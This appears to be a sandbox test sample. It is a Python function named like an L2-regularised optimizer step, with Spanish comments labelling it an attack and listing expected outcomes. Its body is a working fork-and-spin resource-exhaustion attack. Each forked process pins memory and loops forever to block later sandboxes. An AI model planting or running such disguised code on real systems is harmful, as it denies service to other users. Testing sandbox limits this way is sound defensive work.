# ataque: crea muchos procesos que tardan en morir y se va, para que la caja que sigue no se abra
# espera: 1.3=proceso_terminado|tiempo_agotado
def step_l2(w, velocity, grad, w0, learning_rate, momentum, l2):
    import mmap
    import os

    for _ in range(50):
        try:
            child = os.fork()
        except OSError:  # llegó al tope de procesos de la caja
            break
        if child == 0:
            block = mmap.mmap(-1, 4 << 20)
            block[:] = b"1" * len(block)
            while True:
                pass
    os._exit(0)
